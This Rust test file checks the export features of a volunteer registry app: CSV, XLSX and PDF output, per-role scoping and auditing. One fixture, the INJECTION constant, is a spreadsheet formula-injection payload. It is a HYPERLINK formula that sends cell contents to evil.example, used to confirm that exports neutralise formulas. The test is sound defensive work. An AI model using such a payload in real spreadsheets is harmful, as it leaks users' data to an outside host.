//! Exports: the writers (BOM, formula neutralisation, real dates, frozen header and
//! autofilter, PDF pages and text), and the sources (volunteers and the audit log) per role:
//! only the actor's scope goes out, refusals write nothing, and every export is audited.

mod common;

use std::io::Read;
use std::process::Command;

use calamine::{Data, Reader, Xlsx};
use chrono::NaiveDate;
use common::{cast, volunteer_form, World};
use jasaq::access::Actor;
use jasaq::audit::AuditFilter;
use jasaq::reports::{
    self, export_audit, export_volunteers, AuditExport, Cell, Column, ColumnKind, ExportFormat,
    Lang, Table, VolunteerExport,
};
use jasaq::volunteers::{self, VolunteerQuery};
use jasaq::ErrorCode;

const INJECTION: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")";

fn sample_table(world: &World) -> Table {
    Table {
        title: "Тізім".into(),
        scope: "Ақмола облысы".into(),
        generated_at: world.store.now(),
        lang: Lang::Kk,
        columns: vec![
            Column::new("Аты", ColumnKind::Text, 30.0),
            Column::new("Күні", ColumnKind::Date, 12.0),
            Column::new("Саны", ColumnKind::Integer, 8.0),
            Column::new("Сомасы", ColumnKind::Money, 14.0),
        ],
    }
}

fn sample_rows(n: usize) -> Vec<Vec<Cell>> {
    let mut rows = vec![
        vec![
            Cell::Text(INJECTION.into()),
            Cell::Date(NaiveDate::from_ymd_opt(1990, 3, 8).unwrap()),
            Cell::Integer(-5),
            Cell::Money(123_456),
        ],
        vec![
            Cell::Text("+77012345678".into()),
            Cell::Empty,
            Cell::Integer(1),
            Cell::Money(-50),
        ],
        vec![
            Cell::Text("Әлихан Өмірбекұлы ғқңөұүһі".into()),
            Cell::Date(NaiveDate::from_ymd_opt(2026, 11, 22).unwrap()),
            Cell::Integer(2),
            Cell::Money(0),
        ],
    ];
    for i in 3..n {
        rows.push(vec![
            Cell::Text(format!("Жол {i}")),
            Cell::Empty,
            Cell::Integer(i as i64),
            Cell::Empty,
        ]);
    }
    rows
}

fn write(world: &World, format: ExportFormat, rows: &[Vec<Cell>]) -> Vec<u8> {
    let mut out = Vec::new();
    let table = sample_table(world);
    let written = reports::write_table(&table, format, &mut out, |sink| {
        for row in rows {
            sink.row(row)?;
        }
        Ok(rows.len() as u64)
    })
    .unwrap();
    assert_eq!(written, rows.len() as u64, "every row is counted");
    out
}

fn csv_records(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes
        .strip_prefix(reports::csv::BOM)
        .expect("CSV starts with the UTF-8 BOM");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_has_a_bom_and_neutralises_formulas() {
    let world = World::new();
    let bytes = write(&world, ExportFormat::Csv, &sample_rows(3));
    let records = csv_records(&bytes);
    assert_eq!(records[0], ["Аты", "Күні", "Саны", "Сомасы"], "header row");
    assert_eq!(
        records[1][0],
        format!("'{INJECTION}"),
        "a formula-like cell is shown as text, not evaluated"
    );
    assert_eq!(
        records[2][0], "'+77012345678",
        "a leading + is neutralised too"
    );
    assert_eq!(records[1][1], "08.03.1990", "dates are dd.MM.yyyy");
    assert_eq!(
        records[1][2], "-5",
        "numbers are not text cells: no apostrophe"
    );
    assert_eq!(records[1][3], "1234.56", "money is tenge with two decimals");
    assert_eq!(records[2][3], "-0.50", "a negative amount below a tenge");
    assert_eq!(
        records[3][0], "Әлихан Өмірбекұлы ғқңөұүһі",
        "Kazakh letters survive as UTF-8"
    );
}

fn sheet_xml(bytes: &[u8]) -> String {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    archive
        .by_name("xl/worksheets/sheet1.xml")
        .expect("an XLSX holds xl/worksheets/sheet1.xml")
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

#[test]
fn xlsx_keeps_formulas_inert_and_dates_as_dates() {
    let world = World::new();
    let bytes = write(&world, ExportFormat::Xlsx, &sample_rows(3));
    let mut book = Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
    let name = book.sheet_names()[0].clone();
    assert_eq!(name, "Тізім", "the sheet is named after the list");
    let range = book.worksheet_range(&name).unwrap();
    assert_eq!(
        range.get_value((0, 0)),
        Some(&Data::String("Аты".into())),
        "header row first"
    );
    assert_eq!(
        range.get_value((1, 0)),
        Some(&Data::String(INJECTION.into())),
        "the injected text is kept verbatim as a string cell"
    );
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell of an export is a formula"
    );
    match range.get_value((1, 1)) {
        Some(Data::DateTime(d)) => assert_eq!(
            d.as_f64(),
            (NaiveDate::from_ymd_opt(1990, 3, 8).unwrap()
                - NaiveDate::from_ymd_opt(1899, 12, 30).unwrap())
            .num_days() as f64,
            "the date is a real Excel date of the same day"
        ),
        other => panic!("a date column holds Excel dates, got {other:?}"),
    }
    assert_eq!(
        range.get_value((1, 3)),
        Some(&Data::Float(1234.56)),
        "money is a number of tenge"
    );
    let xml = sheet_xml(&bytes);
    assert!(
        xml.contains("<pane ySplit=\"1\"") && xml.contains("state=\"frozen\""),
        "the header row is frozen"
    );
    assert!(
        xml.contains("<autoFilter ref=\"A1:D4\""),
        "an autofilter covers the header and every row"
    );
    assert!(xml.contains("<col "), "column widths are set");
}

#[test]
fn xlsx_keeps_every_row_in_order_across_the_writer_threads_batches() {
    // The XLSX writer takes rows in batches of 1,024 on a thread of its own: 2,600 rows end
    // in a partial batch, and every row must come out once, in order, on its own line.
    let world = World::new();
    let rows = sample_rows(2_600);
    let bytes = write(&world, ExportFormat::Xlsx, &rows);
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("Тізім").unwrap();
    assert_eq!(range.height(), 2_601, "the header and every row, no more");
    for i in 3..2_600usize {
        assert_eq!(
            range.get_value((i as u32 + 1, 0)),
            Some(&Data::String(format!("Жол {i}"))),
            "row {i} is on sheet row {}",
            i + 1
        );
        assert_eq!(
            range.get_value((i as u32 + 1, 2)),
            Some(&Data::Float(i as f64)),
            "row {i} keeps its own number"
        );
    }
}

#[test]
fn a_failing_xlsx_source_stops_the_writer_and_reports_its_error() {
    let world = World::new();
    let table = sample_table(&world);
    let mut out = Vec::new();
    let result = reports::write_table(&table, ExportFormat::Xlsx, &mut out, |sink| {
        for row in sample_rows(3_000) {
            sink.row(&row)?;
        }
        Err(jasaq::Error::internal("the source failed half-way"))
    });
    assert!(result.is_err(), "the source's failure is the export's");
    assert!(out.is_empty(), "nothing is written when the source fails");
}

fn pdf_pages_and_text(bytes: &[u8]) -> (usize, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("list.pdf");
    std::fs::write(&path, bytes).unwrap();
    let info = Command::new("pdfinfo")
        .arg(&path)
        .output()
        .expect("pdfinfo (poppler-utils) runs");
    assert!(info.status.success(), "pdfinfo accepts the PDF");
    let info = String::from_utf8_lossy(&info.stdout).to_string();
    let pages = info
        .lines()
        .find_map(|l| l.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .expect("pdfinfo reports a page count");
    let text = Command::new("pdftotext")
        .arg("-layout")
        .arg(&path)
        .arg("-")
        .output()
        .expect("pdftotext runs");
    (pages, String::from_utf8_lossy(&text.stdout).to_string())
}

#[test]
fn pdf_repeats_the_header_and_numbers_its_pages() {
    let world = World::new();
    let bytes = write(&world, ExportFormat::Pdf, &sample_rows(300));
    assert!(bytes.starts_with(b"%PDF-"), "a PDF file");
    let (pages, text) = pdf_pages_and_text(&bytes);
    assert!(
        pages >= 5,
        "300 rows fill several landscape pages, got {pages}"
    );
    for page in 1..=pages {
        assert!(
            text.contains(&format!("Бет / Страница {page} / {pages}")),
            "page {page} says 'page {page} of {pages}'"
        );
    }
    let headings = text.matches("Сомасы").count();
    assert_eq!(headings, pages, "the column headings repeat on every page");
    assert!(
        text.contains("Әлихан Өмірбекұлы ғқңөұүһі"),
        "Kazakh letters are real text"
    );
    assert!(text.contains("Ақмола облысы"), "the scope is printed");
    assert!(text.contains("Жол 299"), "the last row is printed");
    assert!(text.contains("08.03.1990"), "dates are dd.MM.yyyy");
}

struct Registry {
    world: World,
    c: common::Cast,
}

fn registry() -> Registry {
    let mut world = World::new();
    let c = cast(&mut world);
    for (district, surname, serial) in [
        (&c.akmola_district, "Байжанов", 100),
        (&c.akmola_district, "Сейітов", 110),
        (&c.akmola_other_district, "Омаров", 200),
        (&c.karaganda_district, "Жақсылықов", 300),
    ] {
        let form = volunteer_form(district, surname, "Темірлан", "1990-01-01", serial);
        volunteers::register(&mut world.store, &c.national, form).unwrap();
    }
    Registry { world, c }
}

fn export_csv(
    world: &mut World,
    actor: &Actor,
    query: VolunteerQuery,
) -> jasaq::Result<Vec<Vec<String>>> {
    let mut out = Vec::new();
    let input = VolunteerExport {
        query,
        format: ExportFormat::Csv,
        lang: Lang::Ru,
    };
    let summary = export_volunteers(&mut world.store, actor, &input, &mut out)?;
    let records = csv_records(&out);
    assert_eq!(
        summary.rows as usize,
        records.len() - 1,
        "the summary counts the data rows written"
    );
    Ok(records)
}

fn surnames(records: &[Vec<String>]) -> Vec<String> {
    let mut names: Vec<String> = records[1..].iter().map(|r| r[1].clone()).collect();
    names.sort();
    names
}

#[test]
fn volunteer_export_holds_only_the_actors_scope() {
    let Registry { mut world, c } = registry();
    let all = VolunteerQuery::default();
    let op = export_csv(&mut world, &c.akmola_operator, all.clone()).unwrap();
    assert_eq!(
        surnames(&op),
        ["Байжанов", "Сейітов"],
        "a district operator's export holds only their district"
    );
    assert!(
        op[1][7].contains("Бурабай"),
        "the district column names the district, got {:?}",
        op[1]
    );
    let admin = export_csv(&mut world, &c.akmola_admin, all.clone()).unwrap();
    assert_eq!(
        surnames(&admin),
        ["Байжанов", "Омаров", "Сейітов"],
        "a regional admin's export holds their region"
    );
    let viewer = export_csv(&mut world, &c.akmola_viewer, all.clone()).unwrap();
    assert_eq!(
        surnames(&viewer).len(),
        3,
        "a regional viewer reads their region"
    );
    let karaganda = export_csv(&mut world, &c.karaganda_admin, all.clone()).unwrap();
    assert_eq!(
        surnames(&karaganda),
        ["Жақсылықов"],
        "another region sees its own only"
    );
    let national = export_csv(&mut world, &c.national, all).unwrap();
    assert_eq!(
        surnames(&national).len(),
        4,
        "the national admin exports the country"
    );
    assert_eq!(
        world.audit_count("volunteer.export"),
        5,
        "each export is one audit entry"
    );
}

#[test]
fn volunteer_export_follows_the_list_filters() {
    let Registry { mut world, c } = registry();
    let query = VolunteerQuery {
        q: Some("сейіт".into()),
        ..VolunteerQuery::default()
    };
    let found = export_csv(&mut world, &c.akmola_admin, query.clone()).unwrap();
    assert_eq!(
        surnames(&found),
        ["Сейітов"],
        "the text search narrows the export"
    );
    let by_district = VolunteerQuery {
        district_id: Some(c.akmola_other_district.id.clone()),
        ..VolunteerQuery::default()
    };
    let found = export_csv(&mut world, &c.national, by_district).unwrap();
    assert_eq!(
        surnames(&found),
        ["Омаров"],
        "the district filter narrows the export"
    );
    let (after,): (String,) = world
        .store
        .conn()
        .query_row(
            "SELECT after FROM audit_log WHERE action = 'volunteer.export' ORDER BY seq LIMIT 1",
            [],
            |r| Ok((r.get(0)?,)),
        )
        .unwrap();
    let after: serde_json::Value = serde_json::from_str(&after).unwrap();
    assert_eq!(after["format"], "csv", "the audit entry names the format");
    assert_eq!(
        after["rows"], 1,
        "the audit entry counts the rows handed out"
    );
    assert_eq!(
        after["filters"]["q"], "сейіт",
        "the audit entry names the filters"
    );
}

#[test]
fn out_of_scope_exports_are_refused_and_not_audited() {
    let Registry { mut world, c } = registry();
    let other = VolunteerQuery {
        district_id: Some(c.akmola_other_district.id.clone()),
        ..VolunteerQuery::default()
    };
    let err = export_csv(&mut world, &c.akmola_operator, other).unwrap_err();
    assert_eq!(
        err.code,
        ErrorCode::Forbidden,
        "another district is out of scope"
    );
    let karaganda = VolunteerQuery {
        region_id: Some(common::KARAGANDA.into()),
        ..VolunteerQuery::default()
    };
    let err = export_csv(&mut world, &c.akmola_admin, karaganda).unwrap_err();
    assert_eq!(
        err.code,
        ErrorCode::Forbidden,
        "another region is out of scope"
    );
    assert_eq!(
        world.audit_count("volunteer.export"),
        0,
        "a refused export is not recorded"
    );
}

#[test]
fn volunteer_export_to_xlsx_and_pdf() {
    let Registry { mut world, c } = registry();
    for format in [ExportFormat::Xlsx, ExportFormat::Pdf] {
        let mut out = Vec::new();
        let input = VolunteerExport {
            query: VolunteerQuery::default(),
            format,
            lang: Lang::Kk,
        };
        let summary =
            export_volunteers(&mut world.store, &c.akmola_operator, &input, &mut out).unwrap();
        assert_eq!(summary.rows, 2, "two volunteers in the district");
        assert!(
            summary.file_name.starts_with("volunteers-")
                && summary.file_name.ends_with(format.extension()),
            "a file name to offer: {}",
            summary.file_name
        );
        if format == ExportFormat::Xlsx {
            let mut book = Xlsx::new(std::io::Cursor::new(out)).unwrap();
            let range = book.worksheet_range("Еріктілер").unwrap();
            assert_eq!(range.height(), 3, "header and two rows");
            assert!(
                matches!(range.get_value((1, 4)), Some(Data::DateTime(_))),
                "birth dates are Excel dates"
            );
            assert!(
                matches!(range.get_value((1, 10)), Some(Data::DateTime(_))),
                "registration times are Excel dates"
            );
        } else {
            let (pages, text) = pdf_pages_and_text(&out);
            assert_eq!(pages, 1, "two rows fit one page");
            assert!(text.contains("Еріктілер"), "the title in Kazakh");
            assert!(text.contains("Сейітов"), "the rows are printed");
            assert!(
                !text.contains("Омаров"),
                "another district's volunteer is not"
            );
            assert!(text.contains("UTC+5"), "the time of making is local time");
        }
    }
    assert_eq!(
        world.audit_count("volunteer.export"),
        2,
        "both exports audited"
    );
}

fn export_audit_csv(world: &mut World, actor: &Actor) -> jasaq::Result<Vec<Vec<String>>> {
    let mut out = Vec::new();
    let input = AuditExport {
        filter: AuditFilter::default(),
        format: ExportFormat::Csv,
        lang: Lang::En,
    };
    export_audit(&mut world.store, actor, &input, &mut out)?;
    Ok(csv_records(&out))
}

#[test]
fn audit_export_is_scoped_like_the_audit_page() {
    let Registry { mut world, c } = registry();
    for actor in [&c.akmola_operator, &c.akmola_viewer, &c.national_viewer] {
        let err = export_audit_csv(&mut world, actor).unwrap_err();
        assert_eq!(
            err.code,
            ErrorCode::Forbidden,
            "{} may not read the log",
            actor.username()
        );
    }
    let total: i64 = world.count("audit_log");
    let national = export_audit_csv(&mut world, &c.national).unwrap();
    assert_eq!(
        national.len() as i64 - 1,
        total,
        "the national admin's extract holds every entry"
    );
    let regional = export_audit_csv(&mut world, &c.karaganda_admin).unwrap();
    assert!(regional.len() > 1, "a region has entries of its own");
    assert!(
        regional[1..]
            .iter()
            .all(|r| r[6] == "Karaganda region" || r[6].contains("Karaganda")),
        "a regional admin's extract holds their region only: {:?}",
        regional.iter().map(|r| r[6].clone()).collect::<Vec<_>>()
    );
    assert_eq!(
        world.audit_count("audit.export"),
        2,
        "each extract is audited"
    );
}

#[test]
fn a_formula_typed_as_a_username_is_inert_in_the_audit_extract() {
    let mut world = World::new();
    let national = world.setup();
    assert!(world.sign_in(INJECTION, "wrong").is_err(), "no such user");
    let records = export_audit_csv(&mut world, &national).unwrap();
    let typed = records
        .iter()
        .find(|r| r[3] == "auth.sign_in_failed")
        .expect("the failed sign-in is in the extract");
    assert!(
        typed[2].starts_with("'="),
        "the typed username is neutralised in CSV: {:?}",
        typed[2]
    );
    let mut out = Vec::new();
    let input = AuditExport {
        filter: AuditFilter::default(),
        format: ExportFormat::Xlsx,
        lang: Lang::En,
    };
    export_audit(&mut world.store, &national, &input, &mut out).unwrap();
    let mut book = Xlsx::new(std::io::Cursor::new(out)).unwrap();
    let formulas = book.worksheet_formula("Audit log").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell of the extract is a formula"
    );
    let range = book.worksheet_range("Audit log").unwrap();
    assert!(
        range
            .rows()
            .any(|r| matches!(&r[2], Data::String(s) if s.starts_with("=hyperlink") || s.starts_with("=HYPERLINK"))),
        "the username is kept as a string cell"
    );
}

#[test]
fn unit_member_list_is_exported_within_scope() {
    use common::units::{assign, enrolled, establish, unit, unit_input};
    use jasaq::reports::{export_unit_members, UnitMembersExport};
    let mut world = World::new();
    let c = cast(&mut world);
    let squad = unit_input(
        "1-взвод",
        "platoon",
        common::AKMOLA,
        Some(&c.akmola_district),
        None,
    );
    let squad = unit(&mut world, &c.national, squad);
    establish(&mut world, &c.national, &squad, &[("rifleman", 2)]);
    for (surname, serial) in [("Байжанов", 100), ("Сейітов", 110)] {
        let v = enrolled(
            &mut world,
            &c.national,
            &c.akmola_district,
            surname,
            "1990-01-01",
            serial,
            Vec::new(),
        );
        assign(&mut world, &c.national, &v.id, &squad, "rifleman");
    }
    let input = UnitMembersExport {
        unit_id: squad.id.clone(),
        format: ExportFormat::Csv,
        lang: Lang::Ru,
    };
    let mut out = Vec::new();
    let summary =
        export_unit_members(&mut world.store, &c.akmola_operator, &input, &mut out).unwrap();
    assert_eq!(summary.rows, 2, "the unit's two members");
    let records = csv_records(&out);
    assert_eq!(
        surnames_at(&records, 2),
        ["Байжанов", "Сейітов"],
        "members by name"
    );
    assert_eq!(
        records[1][0], "Стрелок",
        "the position's name in the reader's language"
    );
    let err =
        export_unit_members(&mut world.store, &c.karaganda_admin, &input, Vec::new()).unwrap_err();
    assert!(
        matches!(err.code, ErrorCode::NotFound | ErrorCode::Forbidden),
        "another region's unit is not exported: {err:?}"
    );
    assert_eq!(
        world.audit_count("unit.members_export"),
        1,
        "only the export that ran is audited"
    );
}

fn surnames_at(records: &[Vec<String>], column: usize) -> Vec<String> {
    let mut names: Vec<String> = records[1..].iter().map(|r| r[column].clone()).collect();
    names.sort();
    names
}

#[test]
fn readiness_table_is_exported_within_scope() {
    use common::units::{assign, enrolled, establish, unit, unit_input};
    use jasaq::reports::{export_readiness, ReadinessTableExport};
    use jasaq::units::ReadinessQuery;
    let mut world = World::new();
    let c = cast(&mut world);
    let akmola = unit_input(
        "1-рота",
        "company",
        common::AKMOLA,
        Some(&c.akmola_district),
        None,
    );
    let akmola = unit(&mut world, &c.national, akmola);
    establish(&mut world, &c.national, &akmola, &[("rifleman", 4)]);
    let v = enrolled(
        &mut world,
        &c.national,
        &c.akmola_district,
        "Байжанов",
        "1990-01-01",
        100,
        Vec::new(),
    );
    assign(&mut world, &c.national, &v.id, &akmola, "rifleman");
    let karaganda = unit_input(
        "2-рота",
        "company",
        common::KARAGANDA,
        Some(&c.karaganda_district),
        None,
    );
    unit(&mut world, &c.national, karaganda);
    let input = |format| ReadinessTableExport {
        query: ReadinessQuery {
            region_id: None,
            agency_id: None,
            direction: None,
        },
        format,
        lang: Lang::Ru,
    };
    let mut out = Vec::new();
    let summary = export_readiness(
        &mut world.store,
        &c.akmola_admin,
        &input(ExportFormat::Csv),
        &mut out,
    )
    .unwrap();
    assert_eq!(
        summary.rows, 1,
        "a regional admin's table holds their region's unit only"
    );
    let records = csv_records(&out);
    assert_eq!(records[1][3], "1-рота", "the unit's name");
    assert_eq!(
        (records[1][6].as_str(), records[1][7].as_str()),
        ("4", "1"),
        "authorised and assigned"
    );
    assert_eq!(records[1][8], "25.0", "fill percent");
    let mut out = Vec::new();
    let summary = export_readiness(
        &mut world.store,
        &c.national,
        &input(ExportFormat::Xlsx),
        &mut out,
    )
    .unwrap();
    assert_eq!(summary.rows, 2, "the national table holds both units");
    let mut book = Xlsx::new(std::io::Cursor::new(out)).unwrap();
    let range = book.worksheet_range("Готовность").unwrap();
    assert_eq!(range.height(), 3, "header and two units");
    assert_eq!(
        world.audit_count("unit.readiness_export"),
        2,
        "each export is audited"
    );
}
